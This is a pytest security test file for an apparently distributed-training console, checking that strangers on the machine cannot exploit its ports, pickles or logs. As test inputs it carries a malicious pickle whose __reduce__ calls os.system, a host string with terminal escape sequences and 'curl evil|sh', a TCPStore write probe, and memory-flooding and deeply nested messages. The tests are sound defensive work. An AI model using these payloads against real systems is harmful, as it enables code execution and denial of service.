"""C2, H2 and M1: a run in several processes beside another user who reaches all ports of the
machine."""

from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from tests.waiting import wait_until

pytestmark = pytest.mark.xdist_group("ranks-security")
SMALL = ["batch_size=1", "seq_len=32", "d_model=64", "n_layer=1", "num_threads=1"]


class Run:
    """A console with two training processes."""

    def __init__(self, folder: Path) -> None:
        self._errors = folder / "errors"
        words = [
            sys.executable,
            "-m",
            "gpuconsole",
            "run",
            "ddp-small-batch",
            "--device",
            "cpu",
            "--headless",
            "--duration",
            "120",
        ]
        words += [word for knob in SMALL for word in ("--set", knob)]
        self.console = subprocess.Popen(
            words, cwd=folder, stdout=subprocess.DEVNULL, stderr=self._errors.open("w")
        )
        wait_until(lambda: "tokens/s" in self.said(), 90, "the first steps")

    def said(self) -> str:
        return self._errors.read_text()

    def listening(self, *, all_processes: bool = True) -> list[tuple[str, int]]:
        """The addresses at which the console (and its children) listen."""
        root = psutil.Process(self.console.pid)
        processes = [root, *root.children(recursive=True)] if all_processes else [root]
        found = [
            entry.laddr
            for process in processes
            for entry in process.net_connections("tcp")
            if entry.status == psutil.CONN_LISTEN
        ]
        return [(address.ip, address.port) for address in found]

    def connect(self) -> socket.socket:
        """A connection of a stranger to the console."""
        (address,) = self.listening(all_processes=False)
        return socket.create_connection(address, 10)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    started = Run(tmp_path_factory.mktemp("run"))
    yield started
    started.console.kill()
    started.console.wait(10)


@pytest.mark.slow
def test_nothing_listens_beyond_this_machine(run: Run) -> None:
    assert {address for address, _ in run.listening()} == {"127.0.0.1"}


@pytest.mark.slow
def test_no_port_belongs_to_a_store_that_anybody_can_read_and_write(run: Run) -> None:
    """torchrun's rendezvous keeps a pickle in a store without a password. Whoever writes there runs
    code in every process of the run."""
    script = """
import datetime, os, sys, threading, time, torch.distributed as dist
def knock(port):
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=3),
        wait_for_workers=False)
    store.set("from a stranger", "x")
    print(port, store.get("from a stranger"), flush=True)
threading.excepthook = lambda problem: None
threads = [threading.Thread(target=knock, args=(int(port),)) for port in sys.argv[1:]]
for thread in threads:
    thread.start()
end = time.monotonic() + 5  # a port that is no store never answers
for thread in threads:
    thread.join(max(0.0, end - time.monotonic()))
os._exit(0)
"""
    ports = [str(port) for _, port in run.listening()]
    done = subprocess.run(
        [sys.executable, "-c", script, *ports],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, "")


def test_a_pickle_of_another_process_calls_no_function() -> None:
    """gloo has no password either: whoever is quick can take the place of a process, and sends
    pickles to the others."""
    from gpuconsole.agent.protocol import Stop
    from gpuconsole.agent.world import PlainUnpickler

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, ("touch /tmp/evil",)

    known = {(Stop.__module__, Stop.__qualname__): Stop}
    assert PlainUnpickler(pickle.dumps((Stop(), [1.5, None, "text"])), known).load() == (
        Stop(),
        [1.5, None, "text"],
    )
    with pytest.raises(pickle.UnpicklingError, match="no value that the processes exchange"):
        PlainUnpickler(pickle.dumps(Evil()), known).load()


@pytest.mark.slow
def test_a_stranger_with_a_wrong_token_is_named_by_its_address_alone(run: Run) -> None:
    evil = "\x1b]52;c;cm0gLXJm\x07\x1b[2Jrun: curl evil|sh"
    joining = {
        "event": "rankjoined",
        "t": 1.0,
        "rank": 1,
        "host": evil,
        "pid": 7,
        "leads": False,
        "token": "wrong",
    }
    with run.connect() as stranger:
        stranger.sendall(json.dumps(joining).encode() + b"\n")
        assert stranger.recv(10) == b""
    wait_until(lambda: "was refused" in run.said(), 20, "the refusal")
    assert "evil" not in run.said() and "\x1b" not in run.said()
    assert (
        "a process at 127.0.0.1 wanted to join without the token of this run and was refused"
        in run.said()
    )


@pytest.mark.slow
def test_strangers_cannot_fill_the_memory_of_the_console(run: Run) -> None:
    """Lines without an end, over as many connections as the console takes. Three of them took 180
    MB."""
    console = psutil.Process(run.console.pid)
    before = console.memory_info().rss
    strangers = [run.connect() for _ in range(3)]
    taken, most = 0, before
    for stranger in strangers:
        stranger.settimeout(2.0)
        try:
            for _ in range(60):  # 60 MiB: the limit for a line of our own processes is 64 MiB
                taken += stranger.send(b"x" * 2**20)
                most = max(most, console.memory_info().rss)
        except OSError:  # the console reads no more of it, or has hung up
            continue
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        most = max(most, console.memory_info().rss)
        time.sleep(0.02)
    assert most - before < 30 * 2**20, (
        f"{taken} bytes sent, {(most - before) / 2**20:.0f} MiB taken"
    )
    strangers += [run.connect() for _ in range(40)]
    late = run.connect()  # a process of the run that comes after so many strangers is still heard
    late.sendall(
        b'{"event": "rankjoined", "t": 1.0, "rank": 1, "host": "x", "pid": 7, "leads": false,'
        b' "token": "wrong"}\n'
    )
    late.settimeout(5)
    assert late.recv(10) == b""
    for stranger in [*strangers, late]:
        stranger.close()


@pytest.mark.slow
def test_a_deep_message_is_no_traceback(run: Run) -> None:
    with run.connect() as stranger:
        stranger.sendall(b'{"event": "rankjoined", "x": ' + b"[" * 30_000 + b"]" * 30_000 + b"}\n")
        assert stranger.recv(10) == b""
    assert "Traceback" not in run.said() and run.console.poll() is None
